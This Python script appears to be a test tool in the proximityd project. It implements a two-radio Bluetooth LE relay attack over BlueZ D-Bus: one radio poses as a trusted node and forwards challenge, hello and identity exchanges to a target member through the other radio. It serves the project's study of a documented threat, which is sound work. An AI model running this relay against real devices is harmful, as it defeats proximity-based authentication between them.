#!/usr/bin/python3
"""A relay: an outsider with two radios between two members of a trusted fleet, not proximityd's
code (docs/security.md, "A relay").

The back radio (a box of bluez-sim, or an adapter) connects to the target member and stays
connected. The front radio poses as a node: it advertises the general service UUID and serves the
three characteristics, and every read or write a node makes on them is made at once on the
target's, through the back radio, and its answer given back:

- a read of the challenge reads the target's challenge;
- a hello written is written to the target's hello (its refusal given back as it came);
- a read of the identity reads the target's identity (its answer, sealed to the hello's challenge).

So a node that identifies the front radio runs the trusted exchange with the target, and each
takes the other radio's address for the other member. One exchange runs at a time (another
reader's challenge read meanwhile is answered InProgress), and the target's own reads of the
front radio are not relayed (it finds no challenge there, and no identity). With --once the relay stops (exits) after
the first identity it relayed: a one-shot relay.

Prints one line per event on stdout, flushed: "connected ADDRESS" once the back radio is
connected to the target, "registered" once the front radio advertises and serves, then
"relayed challenge DEVICE", "relayed hello DEVICE", "refused hello DEVICE NAME", "relayed
identity DEVICE" (DEVICE: the front reader's object path), "stopped".

    relay.py --front BUS_ADDRESS --back BUS_ADDRESS --target ADDRESS [--once] [--service-uuid UUID]

Uses Debian's python3-dbus and python3-gi (scripts/setup.sh), as BlueZ's own test/ scripts do.
Ends on SIGTERM or SIGINT.
"""
import argparse
import sys
import time

import dbus
import dbus.exceptions
import dbus.mainloop.glib
from gi.repository import GLib

import peripheral
from peripheral import BLUEZ, CHALLENGE, CHARACTERISTIC, HELLO, IDENTITY, OBJECT_MANAGER, PROPERTIES, NotSupported, offset, reader, say

ADAPTER = "org.bluez.Adapter1"
DEVICE = "org.bluez.Device1"

APP = "/org/example/relay"
AD = "/org/example/relay/advertisement0"


class Relayed(dbus.DBusException):
    """The target's error, given back under its own name."""

    def __init__(self, error):
        self._dbus_error_name = error.get_dbus_name()
        super().__init__(error.get_dbus_message())


class InProgress(dbus.DBusException):
    _dbus_error_name = "org.bluez.Error.InProgress"


def adapter_of(bus, needs):
    objects = dbus.Interface(bus.get_object(BLUEZ, "/"), OBJECT_MANAGER).GetManagedObjects()
    return next((path for path, interfaces in objects.items() if all(n in interfaces for n in needs)), None)


def connect_back(bus, target, timeout=30.0):
    """The back radio connected to `target`, services resolved: the target's three characteristics."""
    adapter = adapter_of(bus, [ADAPTER])
    if adapter is None:
        raise SystemExit("error no adapter on the back radio's bus")
    # With a filter, as bleak and proximityd discover: bluetoothd then reports advertisers that are
    # not discoverable too (a node's advertisement is not).
    adapter_interface = dbus.Interface(bus.get_object(BLUEZ, adapter), ADAPTER)
    adapter_interface.SetDiscoveryFilter(dbus.Dictionary({"Transport": "le"}, signature="sv"))
    adapter_interface.StartDiscovery()
    manager = dbus.Interface(bus.get_object(BLUEZ, "/"), OBJECT_MANAGER)
    deadline = time.monotonic() + timeout
    device = None
    # Found, connected, resolved; again from the start when the device went away meanwhile
    # (bluetoothd forgets a temporary device it has not heard from).
    while True:
        device = None
        for path, interfaces in manager.GetManagedObjects().items():
            if DEVICE in interfaces and str(interfaces[DEVICE].get("Address", "")).upper() == target.upper():
                device = path
        if device is not None:
            try:
                dbus.Interface(bus.get_object(BLUEZ, device, introspect=False), DEVICE).Connect(timeout=30)
                properties = dbus.Interface(bus.get_object(BLUEZ, device, introspect=False), PROPERTIES)
                while not bool(properties.Get(DEVICE, "ServicesResolved")):
                    if time.monotonic() > deadline:
                        raise SystemExit("error the target's services were not resolved")
                    time.sleep(0.1)
                break
            except dbus.exceptions.DBusException as error:
                say(f"retrying the connection to the target ({error.get_dbus_name()})")
        if time.monotonic() > deadline:
            seen = sorted(str(i[DEVICE].get("Address", "?")) for i in manager.GetManagedObjects().values() if DEVICE in i)
            raise SystemExit(f"error {target} not connected by the back radio (it found {seen or 'nothing'})")
        time.sleep(0.3)
    found = {}
    for path, interfaces in manager.GetManagedObjects().items():
        if CHARACTERISTIC in interfaces and str(path).startswith(str(device) + "/"):
            found[str(interfaces[CHARACTERISTIC]["UUID"]).lower()] = dbus.Interface(bus.get_object(BLUEZ, path, introspect=False), CHARACTERISTIC)
    missing = [u for u in (IDENTITY, HELLO, CHALLENGE) if u not in found]
    if missing:
        raise SystemExit(f"error the target has no {missing}")
    return found


def relay_handlers(target, target_address, once, loop):
    """The front radio's identity, hello and challenge handlers, each relayed to the target."""
    values = {}
    # One exchange at a time, as an attacker would run it: the reader whose challenge read began a
    # relay owns it until its identity read (15 s at most); another reader meanwhile is told to
    # wait. The target itself is not relayed to (it would read its own challenge): it finds no
    # challenge, as at an open node.
    owner = {"reader": None, "since": 0.0}
    target_path = "dev_" + target_address.upper().replace(":", "_")

    def relay_read(uuid_, what):
        def read(options):
            key = (uuid_, reader(options))
            if reader(options).endswith(target_path):
                if what == "challenge":
                    raise NotSupported("no challenge")
                return list(b"not an identity")
            if what == "challenge" and offset(options) == 0:
                if owner["reader"] not in (None, reader(options)) and time.monotonic() - owner["since"] < 15:
                    raise InProgress("busy")
                owner["reader"], owner["since"] = reader(options), time.monotonic()
            if offset(options) == 0 or key not in values:
                try:
                    values[key] = bytes(target[uuid_].ReadValue(dbus.Dictionary({}, signature="sv")))
                except dbus.exceptions.DBusException as error:
                    raise Relayed(error)
                say(f"relayed {what} {reader(options)}")
                if what == "identity" and owner["reader"] == reader(options):
                    owner["reader"] = None
                    if once:
                        GLib.timeout_add(300, loop.quit)
            return list(values[key])
        return read

    def hello(data, options):
        try:
            target[HELLO].WriteValue(dbus.Array(data, signature="y"), dbus.Dictionary({}, signature="sv"))
        except dbus.exceptions.DBusException as error:
            say(f"refused hello {reader(options)} {error.get_dbus_name()}")
            raise Relayed(error)
        say(f"relayed hello {reader(options)}")

    return relay_read(IDENTITY, "identity"), hello, relay_read(CHALLENGE, "challenge")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--front", required=True, help="the bus of the radio that poses as a node")
    parser.add_argument("--back", required=True, help="the bus of the radio that connects to the target")
    parser.add_argument("--target", required=True, help="the target member's address")
    parser.add_argument("--once", action="store_true", help="stop after the first identity relayed")
    parser.add_argument("--service-uuid", default=peripheral.GENERAL, help="the general service UUID")
    args = parser.parse_args()
    general = args.service_uuid.lower()

    dbus.mainloop.glib.DBusGMainLoop(set_as_default=True)
    back = dbus.bus.BusConnection(args.back)
    target = connect_back(back, args.target)
    say(f"connected {args.target}")

    front = dbus.bus.BusConnection(args.front)
    loop = GLib.MainLoop()
    identity, hello, challenge = relay_handlers(target, args.target, args.once, loop)
    service = peripheral.NodeService(front, APP, general, identity, hello, challenge)
    app = peripheral.Application(front, APP, service)
    ad = peripheral.Advertisement(front, AD, general)
    status = peripheral.serve(front, app, APP, ad, AD, loop)
    say("stopped")
    del app, ad
    return status


if __name__ == "__main__":
    sys.exit(main())
